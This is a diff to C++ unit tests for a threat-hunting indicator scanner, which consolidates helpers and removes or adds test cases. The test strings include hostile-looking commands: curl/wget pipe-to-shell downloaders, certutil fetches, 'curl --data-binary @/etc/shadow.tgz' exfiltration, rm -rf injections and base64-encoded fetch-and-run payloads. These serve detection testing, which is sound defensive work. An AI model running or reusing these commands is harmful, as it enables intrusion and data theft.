@@ -9,50 +9,17 @@
 #include <random>
 
 #include "hunt/indicator/naive.h"
+#include "hunt/indicator/testing/found.h"
 
 namespace backtrail::hunt {
 namespace {
 
-using observable::Kind;
-
-detector::Set set_of(const std::vector<std::pair<Kind, std::string>>& wanted) {
-  detector::Set set;
-  for (const auto& [kind, text] : wanted) {
-    auto seen = observable::canonical(kind, text);
-    EXPECT_TRUE(seen) << text;
-    if (!seen) continue;
-    detector::Indicator indicator;
-    indicator.kind = kind;
-    indicator.value = seen->value;
-    set.indicators.push_back(std::move(indicator));
-  }
-  std::ranges::sort(set.indicators, {}, [](const auto& each) { return std::tie(each.kind, each.value, each.id); });
-  return set;
-}
-
-/// What is found lives until the next call.
-std::span<const IndicatorScanner::Found> scan(IndicatorScanner& scanner, const record::Record& record) {
-  static sigma::RecordView view(0);
-  view.begin(record);
-  return scanner.scan(view);
-}
-
-std::vector<std::string> found_in(const detector::Set& set, const std::string& value, std::string_view field = "f") {
-  const IndicatorIndex index(set);
-  IndicatorScanner scanner(index);
-  const record::Field one{record::text_value(value), record::kNoSlot, false, field};
-  record::Record record;
-  record.fields = {&one, 1};
-  std::vector<std::string> out;
-  for (const auto& found : scan(scanner, record)) out.push_back(set.indicators[found.indicator].value);
-  return out;
-}
-
-bool is_found(Kind kind, const std::string& text, const std::string& value, std::string_view field = "f") {
-  return !found_in(set_of({{kind, text}}), value, field).empty();
-}
-
-const std::string kMd5 = "001b8f696b6576798517168cd0a0fb44";
+using testing::found_in;
+using testing::is_found;
+using testing::Kind;
+using testing::kMd5;
+using testing::scan;
+using testing::set_of;
 
 TEST(Indicators, DomainsCoverTheirSubdomainsAndNothingBeside) {
   const auto is = [](const std::string& value) { return is_found(Kind::domain, "evil.example", value); };
@@ -164,28 +131,6 @@ TEST(Indicators, RegistryKeysCoverWhatLiesBeneath) {
                        "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\x\\Start"));
 }
 
-TEST(Indicators, WhatSomethingIsJoinedToIsFound) {
-  const std::string trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9c534|C:\\Users\\Public\\evil.dll+212ee|UNKNOWN(00007FF)";
-  EXPECT_TRUE(is_found(Kind::file_name, "ntdll.dll", trace));
-  EXPECT_TRUE(is_found(Kind::file_name, "evil.dll", trace));
-  EXPECT_TRUE(is_found(Kind::path, "C:\\Users\\Public\\evil.dll", trace));
-  EXPECT_TRUE(is_found(Kind::path, "C:\\Temp\\p1.bin", "copy /b C:\\Temp\\p1.bin+C:\\Temp\\p2.bin"));
-  EXPECT_TRUE(is_found(Kind::file_name, "bad.dll", "rundll32 C:\\Users\\Public\\bad.dll#1"));
-  EXPECT_TRUE(is_found(Kind::file_name, "tool3.exe", "tool3.exe!main"));
-  EXPECT_TRUE(is_found(Kind::file_name, "x5.exe", "cmd /c x4.exe&&C:\\Temp\\x5.exe^&echo"));
-  EXPECT_TRUE(is_found(Kind::file_name, "tool4.exe", "tool4.exe@0x1f"));
-  EXPECT_FALSE(is_found(Kind::file_name, "bob.smith", "bob.smith@evil.example"));
-  EXPECT_TRUE(is_found(Kind::file_name, "notepad++.exe", "run notepad++.exe now"));
-  EXPECT_TRUE(is_found(Kind::file_name, "tool6.exe", "TOOL6.EXE-1A2B3C4D.pf"));
-  EXPECT_FALSE(is_found(Kind::file_name, "tool6.exe", "TOOL6.EXE-1A2B3C4D.pfx"));
-  EXPECT_TRUE(is_found(Kind::domain, "evil.example", "\u201cevil.example\u201d\u2026"));
-  EXPECT_TRUE(is_found(Kind::domain, "evil.example", "evil.example\u2192192.0.2.7"));
-  EXPECT_TRUE(is_found(Kind::path, "C:\\Temp\\t17.exe", "\u201cC:\\Temp\\t17.exe\u201d"));
-  EXPECT_TRUE(is_found(Kind::registry_key, "HKLM\\Software\\K68", "\u201cHKLM\\Software\\K68\u201d"));
-  EXPECT_TRUE(is_found(Kind::registry_key, "HKLM\\Software\\K68", "reg save hklm\\software\\k68."));
-  EXPECT_TRUE(is_found(Kind::url, "http://evil.example/a", R"({"u":"http:\/\/evil.example\/a"})"));
-}
-
 TEST(Indicators, AddressesWithTcpdumpsPorts) {
   const std::string line = "10:00:00.123456 IP 203.0.113.47.51512 > 10.0.0.1.53: 1+ A? bad.example. (30)";
   EXPECT_TRUE(is_found(Kind::ipv4, "203.0.113.47", line));
@@ -233,114 +178,6 @@ TEST(Indicators, CommonWordsOnlyInFieldsNamedForThem) {
   EXPECT_TRUE(is_found(Kind::asn, "64500", "AS64500 Example"));
   EXPECT_TRUE(is_found(Kind::email, "Alice@Evil.example", "to=<alice@evil.EXAMPLE>"));
   EXPECT_TRUE(is_found(Kind::ja4, "t13d1516h2_8daaf6152771_e5627efa2ab1", "ja4=t13d1516h2_8daaf6152771_e5627efa2ab1"));
-}
-
-TEST(Indicators, UrlsEndBeforeMarksThatShellsAndListsHave) {
-  const auto is = [](const std::string& url, const std::string& value) { return is_found(Kind::url, url, value); };
-  EXPECT_TRUE(is("http://e1.example/x.sh", "curl -s http://e1.example/x.sh|bash"));
-  EXPECT_TRUE(is("http://e2.example/x.sh", "wget http://e2.example/x.sh;sh x.sh"));
-  EXPECT_TRUE(is("http://e2.example/x.sh", "(wget http://e2.example/x.sh)&&sh x.sh"));
-  EXPECT_TRUE(is("http://a.example/x;j=1,2|3", "http://a.example/x;j=1,2|3"));
-  EXPECT_TRUE(is("https://e2.example/l.php", "/?url=https%3A%2F%2Fe2.example%2Fl.php&data=05%7C01"));
-  EXPECT_TRUE(is("http://e4.example/x.zip", "https://www.g.example/url?q=http://e4.example/x.zip&sa=D"));
-  EXPECT_TRUE(is("http://x.example/p.php?a=3&b=2", "u=http%3A%2F%2Fx.example%2Fp.php%3Fa%3D3%26b%3D2&f=y"));
-  EXPECT_TRUE(is("http://e5.example/x.sh", "curl http://e5.example/x.sh& sleep 1"));
-  EXPECT_TRUE(is("http://e6.example/x.exe", "certutil -f http://e6.example/x.exe&start x.exe"));
-  EXPECT_FALSE(is("http://e7.example/?a=1", "http://e7.example/?a=1&b=2"));
-  EXPECT_TRUE(is("http://e7.example/x", "[http://e7.example/x](http://e8.example/y) **http://e9.example/z**"));
-  EXPECT_TRUE(is("http://e9.example/z", "[http://e7.example/x](http://e8.example/y) **http://e9.example/z**"));
-  EXPECT_TRUE(is("http://n3.example/m", "GET /c=cd+/tmp;wget+http://n3.example/m;chmod+777+m"));
-  EXPECT_TRUE(is("git+ssh://g.example/x", "git+ssh://g.example/x"));
-  EXPECT_TRUE(is("http://e.example/a", R"(iwr \"http://e.example/a\")"));
-  EXPECT_TRUE(is("http://e.example/a?b=1&c=2", R"({"u":"http://e.example/a?b=1\u0026c=2"})"));
-  EXPECT_TRUE(is("http://e.example/a", "/r?u%3Dhttp://e.example/a"));
-  EXPECT_TRUE(is("http://e.example/a", "href=&quot;http://e.example/a&quot;"));
-  std::string list;
-  for (int i = 0; i < 100; ++i) list += "http://l" + std::to_string(i) + ".example/p,";
-  for (int i = 0; i < 100; ++i) EXPECT_TRUE(is("http://l" + std::to_string(i) + ".example/p", list)) << i;
-}
-
-TEST(Indicators, WhatStandsBesideEscapesAndMarksIsFound) {
-  EXPECT_TRUE(is_found(Kind::md5, kMd5, R"(sum\n)" + kMd5 + R"(\nfrom\tevil.example)"));
-  EXPECT_TRUE(is_found(Kind::md5, kMd5, "varbinary 0x" + kMd5));
-  EXPECT_TRUE(is_found(Kind::md5, kMd5, "\x1b[1m" + kMd5 + "\x1b[0m"));
-  EXPECT_TRUE(is_found(Kind::domain, "evil.example", R"(sum\n1\nfrom\tevil.example)"));
-  EXPECT_TRUE(is_found(Kind::domain, "evil.example", "1#011evil.example#012end"));
-  EXPECT_TRUE(is_found(Kind::domain, "evil.example", "PACKET Q [0001] A (3)www(4)evil(7)example(0)"));
-  EXPECT_TRUE(is_found(Kind::domain, "evil.example", "\u8fde\u63a5\u5230evil.example\u5931\u8d25"));
-  EXPECT_TRUE(
-      is_found(Kind::url, "http://evil.example/a?b", "echo Z2V0IGh0dHA6Ly9ldmlsLmV4YW1wbGUvYT9iIHwgc2g= | base64 -d"));
-  EXPECT_TRUE(is_found(Kind::email, "q@evil.example", R"({"from":"\u003cq@evil.example\u003e"})"));
-  EXPECT_TRUE(is_found(Kind::file_name, "evil6.exe", R"(run \"evil6.exe\" now)"));
-  EXPECT_TRUE(is_found(Kind::path, "/opt/x/run.sh", "java#012/opt/x/run.sh#012 at y"));
-  EXPECT_TRUE(is_found(Kind::path, "C:\\x\\a.exe", R"(Error at C:\x\a.exe\n at y)"));
-  EXPECT_FALSE(is_found(Kind::file_name, "tdll.dll", R"(C:\Windows\System32\ntdll.dll)"));
-}
-
-TEST(Indicators, WhatStandsBesideWhatIsNoLetterIsFound) {
-  const auto each = [](const std::string& before, const std::string& behind) {
-    for (const auto& [kind, text] : std::vector<std::pair<Kind, std::string>>{{Kind::domain, "evil.example"},
-                                                                              {Kind::ipv4, "192.0.2.7"},
-                                                                              {Kind::ipv6, "2001:db8::7"},
-                                                                              {Kind::md5, kMd5},
-                                                                              {Kind::email, "q@evil.example"},
-                                                                              {Kind::url, "http://evil.example/a?b"},
-                                                                              {Kind::file_name, "evil6.exe"},
-                                                                              {Kind::path, "/opt/x/run.sh"},
-                                                                              {Kind::path, "C:\\x\\a.exe"},
-                                                                              {Kind::registry_key, "HKCU\\x"}}) {
-      const std::string value = before + text + behind;
-      EXPECT_TRUE(is_found(kind, text, value)) << value;
-    }
-  };
-  each("a=b%0d%0a", "%0d%0ax");
-  each("a%09", "%00");
-  each("x%u0022", "%u0022y");
-  each("q=%E2%80%9C", "%E2%80%9D");
-  each("\\xe2\\x80\\x9c", "\\xe2\\x80\\x9d");
-  each("/shell?cd+/tmp;rm+-rf+*;wget+", "+;chmod+777");
-  each("/shell?cd+>x|y+", "+<z");
-  each("\U0001f600", "\u2713");
-  each("\ufffd", "\ufffd");
-  each("\x93", "\x94");  // quotation marks of Windows' code page
-  each("[\\'", "\\', x]");
-  each("<!--", "-->");
-  each("x->", "->y");
-  EXPECT_TRUE(is_found(Kind::ipv6, "2001:db8::9", "lease 2001:db8::1...2001:db8::9"));
-  EXPECT_TRUE(is_found(Kind::ipv6, "2001:db8::9", "\u0430\u0434\u0440\u0435\u04412001:db8::9\u00e9"));
-  EXPECT_TRUE(is_found(Kind::ipv4, "192.0.2.9", "192.0.2.1..192.0.2.9"));
-  EXPECT_TRUE(is_found(Kind::url, "http://evil.example/a", "Location: http://evil.example/a..Server: x"));
-  EXPECT_TRUE(is_found(Kind::email, "q@evil.example", "....From:q@evil.example..To:"));
-  EXPECT_TRUE(is_found(Kind::file_name, "evil6.exe", "x...evil6.exe..y"));
-  EXPECT_TRUE(is_found(Kind::domain, "evil.example", "GET / HTTP/1.1..Host: evil.example..Accept: */*"));
-  EXPECT_TRUE(is_found(Kind::url, "http://a.example/", "__http://a.example/__ ~~http://b.example/~~"));
-  EXPECT_TRUE(is_found(Kind::url, "http://a.example/x", "_http://a.example/x__"));
-  EXPECT_TRUE(is_found(Kind::registry_key, "HKCU\\x", "HKCU\\x: deleted"));
-}
-
-TEST(Indicators, WhatCommandsNameBehindMarksAndOptions) {
-  EXPECT_TRUE(is_found(Kind::path, "/etc/shadow.tgz", "curl --data-binary @/etc/shadow.tgz -F f=@stolen.zip"));
-  EXPECT_TRUE(is_found(Kind::file_name, "stolen.zip", "curl --data-binary @/etc/shadow.tgz -F f=@stolen.zip"));
-  EXPECT_TRUE(is_found(Kind::path, "/tmp/e8", "curl -o/tmp/e8"));
-  EXPECT_TRUE(is_found(Kind::path, "C:\\out", "7z x a.7z -oC:\\out"));
-  EXPECT_TRUE(is_found(Kind::path, "/opt/interp", "#!/opt/interp -x"));
-  EXPECT_FALSE(is_found(Kind::path, "/x", "bob@/x") || is_found(Kind::path, "/x", "a-o/x"));
-  const std::string query =
-      "/c?cmd=cd+/tmp;rm+-rf+f1.exe;sh+/opt/f4/b.sh&q=to+joe@f7.example+x&d=del+%5C%5Cf6srv%5Cs%5Cf6.exe";
-  EXPECT_TRUE(is_found(Kind::file_name, "f1.exe", query));
-  EXPECT_TRUE(is_found(Kind::path, "/opt/f4/b.sh", query));
-  EXPECT_TRUE(is_found(Kind::path, R"(\\f6srv\s\f6.exe)", query));
-  EXPECT_TRUE(is_found(Kind::email, "joe@f7.example", query));
-  for (const char* value :
-       {"[AF_INET6]2001:db8::7:1194", "[client 2001:db8::7:53211] x", "2001:db8::1-2001:db8::7 in use",
-        "2001:db8::7-2001:db8::9", "joe/2001:db8::7:443 MULTI", "2001:db8:0:0:0:0:0:7:53211"})
-    EXPECT_TRUE(is_found(Kind::ipv6, "2001:db8::7", value)) << value;
-  EXPECT_FALSE(is_found(Kind::ipv6, "2001:db8::7", "2001:db8::7:5"));
-  EXPECT_TRUE(is_found(Kind::ipv6, "2001:db8::7", "src:2001:db8::7 dst:2001:db8::8"));
-  EXPECT_FALSE(is_found(Kind::ipv6, "db8::7", "2001:db8::7"));
-  for (const char* value : {"HKCU\\x deleted", "HKCU\\x|y", "HKCU\\x, HKLM\\z"})
-    EXPECT_TRUE(is_found(Kind::registry_key, "HKCU\\x", value)) << value;
-  EXPECT_FALSE(is_found(Kind::registry_key, "HKCU\\x", "HKCU\\x y\\z"));
 }
 
 TEST(Indicators, EachOnceWithItsFirstFieldInOrder) {
@@ -684,6 +521,19 @@ TEST(Indicators, EqualTheNaiveSearchOnRandomValues) {
       "\xe2\x80",
       "__",
       "~~",
+      "\\u0000",
+      "\\U0001F525",
+      "\\040",
+      "\\042",
+      "\\|",
+      "&rsquo;",
+      "&Auml;",
+      "&x;",
+      "/Base64/aHR0cDovL2V2aWwuZXhhbXBsZS9hP2IgYSB4IGJvYkBldmls",
+      "Base64+aQB3AHIAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC8A",
+      "http://bob:x@",
+      ":10:5",
+      "#top",
       ": "};
   const std::vector<std::string_view> fields{"f", "PipeName", "ServiceName", "User", "src_asn", "Computer"};
   std::mt19937 random(7);
@@ -709,9 +559,9 @@ TEST(Indicators, LongRunsOfOneByteCostNoMoreThanTheyAreLong) {
   IndicatorScanner scanner(index);
   // A megabyte each: what looked back or ahead from every place of a run would not come to an end here.
   for (const std::string_view piece :
-       {"-",  "<",   "=+",    "..a",  "\xe2", "%e2",  "\\xe2", "\xe2\x9c\x93", "+",  "\u0434",
-        ".",  ":",   "@",     " ",    "\\",   "a",    "a.",    "a@",           "x ", " x.",
-        "::", "://", "a.exe", "c:\\", "..x ", "(a)/", ")/",    "(%)%",         ")~", ")\\"}) {
+       {"/+",     "&",   "-",     "<",    "=+",   "..a",  "\xe2", "%e2",  "\\xe2", "\xe2\x9c\x93", "+",
+        "\u0434", ".",   ":",     "@",    " ",    "\\",   "a",    "a.",   "a@",    "x ",           " x.",
+        "::",     "://", "a.exe", "c:\\", "..x ", "(a)/", ")/",   "(%)%", ")~",    ")\\"}) {
     std::string value;
     while (value.size() < (1U << 20)) value += piece;
     const record::Field one{record::text_value(value), record::kNoSlot, false, "f"};
